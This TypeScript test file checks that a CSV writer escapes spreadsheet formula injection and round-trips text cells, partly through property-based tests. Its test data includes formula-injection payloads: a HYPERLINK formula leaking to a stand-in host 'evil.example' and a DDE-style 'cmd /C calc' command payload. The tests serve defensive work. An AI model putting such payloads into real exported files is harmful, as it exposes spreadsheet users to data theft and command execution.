import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvScanner } from "./csv";
import { csvCell, csvFixed, csvRow, unneutralizeCsvText } from "./csv-write";

/** Would a spreadsheet run this cell (as read from the file) as a formula? */
const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell);

function readRow(line: string): string[] {
  const s = new CsvScanner();
  s.push(line);
  return s.next(true)?.fields ?? [];
}

describe("csvRow", () => {
  it("neutralises text cells a spreadsheet would run as formulas, and quotes them", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak","click")',
      "+1+1",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "'=already quoted",
    ];
    const line = csvRow(hostile);
    const cells = readRow(line);
    expect(cells).toHaveLength(hostile.length);
    for (const [i, cell] of cells.entries()) {
      expect(cell.startsWith("'"), cell).toBe(true);
      expect(unneutralizeCsvText(cell)).toBe(hostile[i]);
    }
    expect(line.split(",")[0]).toBe('"\'=HYPERLINK(""http://evil.example/?leak""');
  });

  it("leaves numbers as numbers, negative ones too, and ordinary text alone", () => {
    expect(csvRow([-12, 3.5, csvFixed(-0.5, 2), csvFixed(1012.345, 2), true, null])).toBe(
      "-12,3.5,-0.50,1012.35,true,",
    );
    expect(csvRow(["gpt-4", "a, b", 'say "hi"', "multi\nline", ""])).toBe(
      'gpt-4,"a, b","say ""hi""","multi\nline",',
    );
    // the column's type decides: text that looks like a number is still text
    expect(csvCell("-1")).toBe('"\'-1"');
    expect(csvFixed(Number.POSITIVE_INFINITY, 2)).toBeNull();
    expect(csvCell(Number.NaN)).toBe("");
  });

  it("never writes a text cell a spreadsheet reads as a formula, and reads back every text", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string(),
            fc
              .tuple(
                fc.constantFrom("'", "''", ""),
                fc.constantFrom("=", "+", "-", "@", "\t", "\r"),
                fc.string(),
              )
              .map((parts) => parts.join("")),
          ),
          { minLength: 1, maxLength: 6 },
        ),
        (texts) => {
          // a first cell keeps the row from being a blank line, which a reader skips
          const cells = readRow(csvRow(["row", ...texts])).slice(1);
          expect(cells.map(unneutralizeCsvText)).toEqual(texts);
          for (const cell of cells) expect(formulaLike(cell), cell).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
